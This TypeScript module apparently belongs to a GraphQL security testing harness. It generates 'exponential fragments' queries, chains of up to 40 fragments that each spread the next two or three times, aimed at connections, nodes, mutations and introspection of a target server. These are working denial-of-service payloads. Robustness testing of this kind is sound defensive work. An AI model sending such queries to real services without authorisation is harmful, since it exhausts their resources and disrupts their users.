import type { Attack, Random, Variant } from '../attack.ts';
import { askGraphql, ENCODINGS, type Encoding } from '../graphql-client.ts';

/** Where a chain of fragments hangs, on which type, and what its last one asks for. */
interface Place {
  readonly on: string;
  document(spread: string): string;
  readonly leaf: string;
  /** What stands between a fragment and the spreads in it. */
  wrap?(spreads: string): string;
}

const PLACES: Readonly<Record<string, Place>> = {
  connection: {
    on: 'AdvertiserConnection',
    document: (spread) => `{ advertisers(first: 1) { ${spread} } }`,
    leaf: 'totalCount',
  },
  'connection below a node': {
    on: 'CampaignConnection',
    document: (spread) => `{ advertiser(id: 1) { campaigns(first: 1) { ${spread} } } }`,
    leaf: 'pageInfo { hasNextPage }',
  },
  node: { on: 'Advertiser', document: (spread) => `{ advertiser(id: 1) { ${spread} } }`, leaf: 'name' },
  'node to its own type again': {
    on: 'Advertiser',
    document: (spread) => `{ advertiser(id: 1) { ${spread} } }`,
    leaf: 'name',
    wrap: (spreads) => `campaigns(first: 1) { nodes { advertiser { ${spreads} } } }`,
  },
  history: {
    on: 'ChangeConnection',
    document: (spread) => `{ advertiser(id: 1) { history(first: 1) { ${spread} } } }`,
    leaf: 'nodes { id }',
  },
  'history below fragments': {
    on: 'Advertiser',
    document: (spread) => `{ advertiser(id: 1) { ${spread} } }`,
    leaf: 'history(first: 1) { nodes { id } }',
  },
  query: { on: 'Query', document: (spread) => `{ ${spread} }`, leaf: 'advertisers(first: 1) { totalCount }' },
  'union of a mutation': {
    on: 'UpdateAdvertiserResult',
    document: (spread) => `mutation { updateAdvertiser(input: { id: 1 }, validateOnly: true) { ${spread} } }`,
    leaf: '__typename',
  },
  'interface in a union': {
    on: 'Error',
    document: (spread) =>
      `mutation { updateAdvertiser(input: { id: 1 }, validateOnly: true) { ... on Error { ${spread} } } }`,
    leaf: 'message',
  },
  'mutation itself': {
    on: 'Mutation',
    document: (spread) => `mutation { ${spread} }`,
    leaf: 'updateAdvertiser(input: { id: 1 }, validateOnly: true) { __typename }',
  },
  introspection: {
    on: '__Type',
    document: (spread) => `{ __schema { queryType { ${spread} } } }`,
    leaf: 'name',
    wrap: (spreads) => `fields { type { ${spreads} } }`,
  },
};

interface Shape {
  readonly place: string;
  readonly depth: number;
  readonly spreads: number;
  /** `... on T { ... }` around each spread, with a directive or a type. */
  readonly around: string;
  readonly encoding: Encoding;
}

const AROUND = ['', '... on', '... @include(if: true)', '@skip(if: false)'];

export const attack: Attack = {
  point: 'A2',
  name: 'exponential fragments',
  *variants(random) {
    for (const place of Object.keys(PLACES))
      for (const depth of [10, 25, 40])
        yield variant({ place, depth, spreads: 2, around: '', encoding: 'POST' });
    while (true) yield variant(someShape(random));
  },
};

const someShape = (random: Random): Shape => ({
  place: random.pick(Object.keys(PLACES)),
  depth: 10 + random.integer(31),
  spreads: random.pick([2, 3]),
  around: random.pick(AROUND),
  encoding: random.pick(ENCODINGS),
});

function variant(shape: Shape): Variant {
  const { place, depth, spreads, around, encoding } = shape;
  const place_ = PLACES[place] as Place;
  return {
    name: `${depth} fragments on ${place}, ${spreads} spreads each, "${around}", by ${encoding}`,
    run: async (target) => {
      await askGraphql(target, { query: chain(place_, shape), encoding });
    },
  };
}

/** `fragment F1 on T { ...F2 ...F2 }` and so on: one path to read, 2^depth to walk. */
function chain(
  { on, document, leaf, wrap = (text) => text }: Place,
  { depth, spreads, around }: Shape,
): string {
  const spread = (level: number): string => {
    if (around === '... on') return `... on ${on} { ...F${level} }`;
    if (around.startsWith('...')) return `${around} { ...F${level} }`;
    return `...F${level} ${around}`;
  };
  const fragments = Array.from({ length: depth }, (_, index) => {
    const level = index + 1;
    const inner =
      level === depth
        ? leaf
        : wrap(
            Array(spreads)
              .fill(spread(level + 1))
              .join(' '),
          );
    return `fragment F${level} on ${on} { ${inner} }`;
  });
  return [document(spread(1)), ...fragments].join('\n');
}
